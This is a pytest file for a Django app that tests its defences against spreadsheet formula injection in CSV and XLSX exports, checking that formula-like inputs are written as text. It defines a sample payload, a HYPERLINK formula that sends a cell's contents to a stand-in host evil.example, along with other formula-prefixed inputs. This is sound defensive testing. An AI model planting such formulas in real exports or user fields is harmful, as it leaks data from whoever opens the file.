"""Issue 19, item 3: no text typed by anyone becomes a live formula in any CSV or XLSX the
app writes (the funders' report, every list export); numbers stay numbers."""

import csv
import io
import zipfile
from datetime import timedelta

import pytest
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook

from voisins.evaluation import reports, selectors
from voisins.households.models import FamilyHousehold, VolunteerHousehold
from voisins.programmes.models import Programme
from voisins.spreadsheets import csv_lines, safe_cell, xlsx_file

EVIL = '=HYPERLINK("http://evil.example/?leak="&A3,"Click")'
EN = {"HTTP_ACCEPT_LANGUAGE": "en"}


@pytest.mark.parametrize("text", [EVIL, "+1+2", "-2+3", "@SUM(A1)", "\t=1", "\r=1"])
def test_a_text_that_would_be_a_formula_is_written_as_text(text):
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize("value", ["Voisins Nord", "", "1030", "a=b", 3, -3, 2.5, None,
                                   timezone.localdate()])
def test_anything_else_is_left_as_it_is(value):
    assert safe_cell(value) == value


def test_the_writers_neutralise_every_cell_and_keep_numbers():
    text = b"".join(csv_lines([EVIL, "n"], [[EVIL, -4], ["-4", 7.5]])).decode("utf-8-sig")
    assert list(csv.reader(io.StringIO(text))) == [
        ["'" + EVIL, "n"], ["'" + EVIL, "-4"], ["'-4", "7.5"]]
    with xlsx_file([EVIL], [[EVIL, -4, 7.5]], title="t") as file:
        data = file.read()
    assert_no_formula(data)
    sheet = load_workbook(io.BytesIO(data)).active
    assert [c.value for c in sheet[2]] == ["'" + EVIL, -4, 7.5]


def assert_no_formula(xlsx: bytes) -> None:
    """No cell of any sheet is a formula (an <f> element in the sheet's XML)."""
    with zipfile.ZipFile(io.BytesIO(xlsx)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in archive.read(name) and b"<f " not in archive.read(name)
    workbook = load_workbook(io.BytesIO(xlsx))
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)


def assert_csv_safe(text: str) -> None:
    for row in csv.reader(io.StringIO(text)):
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell


@pytest.fixture
def evil_programme(north, alice, whole_programme):
    """A programme name, a training title, a service category and household names that
    are formulas."""
    from voisins.training import services as training

    Programme.objects.filter(pk=north.pk).update(name=EVIL)
    training.training_module_create(programme=north, title=EVIL, required=True)
    FamilyHousehold.objects.filter(programme=north).update(contact_first_name=EVIL,
                                                           contact_last_name="+32 2 555")
    VolunteerHousehold.objects.filter(programme=north).update(contact_first_name="@Marie",
                                                              locality="-Ixelles")
    north.refresh_from_db()
    return north


def test_the_report_xlsx_has_no_formula(evil_programme):
    today = timezone.localdate()
    report = reports.report_build(
        programme=evil_programme, language="en",
        period=selectors.Period(today - timedelta(days=800), today))
    data = reports.report_xlsx(report)
    assert_no_formula(data)
    cells = [c.value for sheet in load_workbook(io.BytesIO(data)).worksheets
             for row in sheet.iter_rows() for c in row]
    assert "'" + EVIL in cells  # the programme's name, as text
    assert any(isinstance(v, int) and not isinstance(v, bool) for v in cells)  # numbers


LIST_URLS = ["staff:families", "staff:volunteers", "matches:proposals", "matches:matches",
             "matches:checkins_overdue", "mediation:cases", "recruitment:referrals"]


@pytest.mark.parametrize("url_name", LIST_URLS)
def test_every_list_export_has_no_formula(client, alice, evil_programme, url_name):
    client.force_login(alice)
    url = reverse(url_name, args=[evil_programme.slug])
    response = client.get(url, {"export": "csv", "status": ""}, **EN)
    assert response.status_code == 200
    text = b"".join(response.streaming_content).decode("utf-8-sig")
    assert_csv_safe(text)
    response = client.get(url, {"export": "xlsx", "status": ""}, **EN)
    assert response.status_code == 200
    assert_no_formula(b"".join(response.streaming_content))


def test_the_household_export_writes_the_evil_name_as_text(client, alice, evil_programme):
    client.force_login(alice)
    response = client.get(reverse("staff:families", args=[evil_programme.slug]),
                          {"export": "xlsx"}, **EN)
    sheet = load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
    values = [c.value for row in sheet.iter_rows(min_row=2) for c in row]
    assert "'" + EVIL in values and "'+32 2 555" in values
